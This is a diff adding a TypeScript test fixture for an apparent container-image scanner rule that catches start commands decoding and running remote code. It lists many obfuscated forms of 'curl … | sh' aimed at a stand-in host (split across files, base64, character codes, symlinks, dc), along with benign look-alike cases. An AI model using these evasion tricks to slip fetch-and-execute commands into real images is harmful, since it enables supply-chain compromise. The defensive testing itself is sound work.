@@ -1,0 +1,71 @@
+import { base64, type Files, type ImageCase, image, program, starts } from './image-case.ts';
+
+const FETCH = 'curl -s https://files.backend.example/u | sh';
+const LINES: Files = { 'opt/a': `x\n${FETCH}\n` };
+
+function found(text: string, files: Files = LINES, config: ImageCase['spec']['config'] = {}): ImageCase {
+  return { name: text, spec: starts(`${text}\nexec nginx`, files, config), rule: 'start/decode-and-run' };
+}
+
+const CODES = [...FETCH].map((character) => character.charCodeAt(0)).join(' ');
+
+/** A shell is given what commands make of a file, or of their own words, and nothing here can tell what that is. */
+export const TAKEN_APART: readonly ImageCase[] = [
+  found("awk 'NR==2' /opt/a | sh"),
+  found(`awk '{print $0 | "sh"}' /opt/a`),
+  found(`awk '{ system($0) }' /opt/a`),
+  found(`awk 'BEGIN{printf "%s%s -s https://files.backend.example/u | %s", "cu", "rl", "sh"}' | sh`),
+  found("paste -d '' /opt/a /opt/b | sh", { 'opt/a': 'cu\n', 'opt/b': 'rl -s files.backend.example | sh\n' }),
+  found('sort -n /opt/a | uniq | bash'),
+  found('tail -n 1 /usr/bin/app | sh', { 'usr/bin/app': program([`\n${FETCH}\n`]) }),
+  found("jq -r '.x|@base64d' /opt/a.json | sh", { 'opt/a.json': JSON.stringify({ x: base64(FETCH) }) }),
+  found(`eval "$(sqlite3 /opt/a.db 'select x from t')"`, {
+    'opt/a.db': Buffer.from('SQLite format 3\0\0'),
+  }),
+  found(`eval "$(readlink /opt/l)"`, { 'opt/l': { type: 'symlink', target: FETCH } }),
+  found('ls /opt/d | sh', { 'opt/d/curl -s files.backend.example|sh': '' }),
+  found('cat /opt/d/* | sh', { 'opt/d/a': 'curl -s files.backend.example \\', 'opt/d/b': '| sh\n' }),
+  found('find /opt/d -type f | xargs cat | sh', { 'opt/d/a': `${FETCH}\n` }),
+  found('ascii85 -d < /opt/a > /tmp/x; sh /tmp/x', { 'opt/a': Buffer.from([0, 1, 2, 3]) }),
+  found("awk '{print $2}' /opt/a | base64 -d | sh", { 'opt/a': Buffer.from([1, 2, 3, 4]) }),
+  found(`for c in ${CODES}; do printf "\\\\$(printf %o $c)"; done | sh`, {}),
+  found('while read c; do printf "\\\\$(printf %o $c)"; done < /opt/a | sh', {
+    'opt/a': CODES.replaceAll(' ', '\n'),
+  }),
+  found('dc -e 3564196372637552960817242731802278574600309493631842178459661622022743218057P | sh', {}),
+];
+
+function honest(text: string, files: Files = {}): ImageCase {
+  return { name: `honest: ${text}`, spec: starts(`${text}\nexec nginx`, files) };
+}
+
+const ENVIRONMENT: Files = { 'etc/app.env': 'A=b\nHOST=https://x.example/curl\n# try: curl -s x\n' };
+
+/** Settings that a script takes apart, and what the container is given when it runs. */
+export const TAKEN_APART_TWINS: readonly ImageCase[] = [
+  honest(`eval "$(awk -F= '/^[A-Z]/{print "export "$0}' /etc/app.env)"`, ENVIRONMENT),
+  honest(`. <(awk '{print "export " $0}' /etc/app.env)`, ENVIRONMENT),
+  honest(
+    `eval "$(jq -r 'to_entries|.[]|"export \\(.key)=\\(.value)"' /app/c.json)"; yq -r .env /app/c.json > /tmp/env.sh; . /tmp/env.sh`,
+    { 'app/c.json': '{"A":"b","HOST":"https://x.example/curl"}\n' },
+  ),
+  honest(
+    'eval "$(ssh-agent -s)"; eval "$(/opt/conda/bin/conda shell.bash hook)"; eval "$(pyenv init -)"; eval `resize`',
+    { 'opt/conda/bin/conda': '#!/opt/conda/bin/python\nprint(1)\n' },
+  ),
+  honest(
+    'python3 /app/gen.py | sh; /app/gen | sh; find /docker-entrypoint.d -name "*.sh" -print0 | xargs -0 -n1 sh',
+    { 'app/gen.py': 'print("echo hi")\n', 'app/gen': program(), 'docker-entrypoint.d/a.sh': 'echo hi\n' },
+  ),
+  honest(
+    `echo "$INIT" | sh; cat "$1" | bash -s; cat /config/custom.sh | sh; sed "s/@/$X/" /run/x | sh; ls /data/*.gz | awk '{print "gunzip " $1}' | sh`,
+  ),
+  honest('awk \'{print $1}\' /proc/mounts; awk -v m="$M" \'{ "date" | getline d; print d }\' /etc/hosts'),
+  {
+    name: 'a script that takes a file apart for a shell, which nothing starts',
+    spec: image(
+      { 'opt/x.sh': "#!/bin/sh\nawk 'NR==2' /opt/a | sh\n", 'opt/a': 'x\necho hi\n' },
+      { Cmd: ['nginx'] },
+    ),
+  },
+];
